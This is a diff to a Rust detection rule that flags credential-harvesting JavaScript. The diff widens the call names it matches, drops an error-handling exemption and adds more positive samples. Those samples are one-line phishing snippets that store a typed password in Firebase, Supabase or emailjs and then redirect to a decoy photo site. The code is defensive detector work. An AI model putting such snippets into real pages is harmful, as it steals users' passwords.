@@ -24,13 +24,14 @@ pub(super) const SIGNAL: Signal = Signal {
             "f.onsubmit=async e=>{e.preventDefault();await db.from('logs').insert({email:m.value,password:document.getElementById('password').value});location.href='https://photos.example/'}",
             "emailjs.send('s','t',{username:u,password:document.getElementById('password').value}).then(function(){location.href='https://photos.example'})",
             "const p=document.getElementById('password').value;addDoc(collection(db,'users'),{user:u.value,password:p}).then(()=>{window.location.href='https://photos.example/'})",
+            "set(ref(db,'people/'+n),{name:n,password:document.getElementById('pw').value}).then(()=>{alert('Thanks');window.location.href='https://photos.example/'})",
+            "firebase.database().ref('logs').push({mail:m.value,password:p.value});window.location.href='https://photos.example/'",
         ],
         without: &[
             "emailjs.send('s','t',{to:document.getElementById('mail').value,password:makeWord()}).then(()=>{location.href='https://app.example/'})",
             "await auth.signInWithPassword({email:m.value,password:p.value});await db.from('log').insert({at:Date.now()});location.href='https://app.example/'",
             "await db.from('people').insert({name:n.value,email:m.value});location.href='https://app.example/'",
             "await db.from('people').insert({email:m.value,password:p.value});location.href='/home'",
-            r#"async function make(){const {error}=await db.from('members').insert([{mail:mail.value,password:password.value}]);if(error){warn(error.message);return}location.href='https://members.row.example/welcome'}"#,
         ],
     },
 };
@@ -38,16 +39,15 @@ pub(super) const SIGNAL: Signal = Signal {
 /// Whether what is kept has a password among its keys, just behind the call, and one that was typed: not what a function made up.
 fn keeps(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 4);
-    // Who makes an account is told when that fails.
-    if near.words(&["error"]).any(|at| near.is(at + 1, b')') && near.is(at - 1, b'(')) {
-        return false;
-    }
-    near.words(&["insert", "addDoc", "setDoc", "emailjs", "Email"]).any(|call| {
-        let sent = near.among(call + 1..call + 36);
-        sent.words(&["password", "pass", "passwd", "pwd", "pin"]).any(|key| {
-            let made =
-                sent.is(key + 3, b'(') && sent.kind(key + 2) == Some(Kind::Name) && sent.word(key + 2) != "$";
-            sent.is(key + 1, b':') && !made || sent.is(key + 1, b',') || sent.is(key + 1, b'}')
-        })
-    })
+    near.words(&["insert", "addDoc", "setDoc", "emailjs", "Email", "set", "push", "update", "add"]).any(
+        |call| {
+            let sent = near.among(call + 1..call + 36);
+            sent.words(&["password", "pass", "passwd", "pwd", "pin"]).any(|key| {
+                let made = sent.is(key + 3, b'(')
+                    && sent.kind(key + 2) == Some(Kind::Name)
+                    && sent.word(key + 2) != "$";
+                sent.is(key + 1, b':') && !made || sent.is(key + 1, b',') || sent.is(key + 1, b'}')
+            })
+        },
+    )
 }
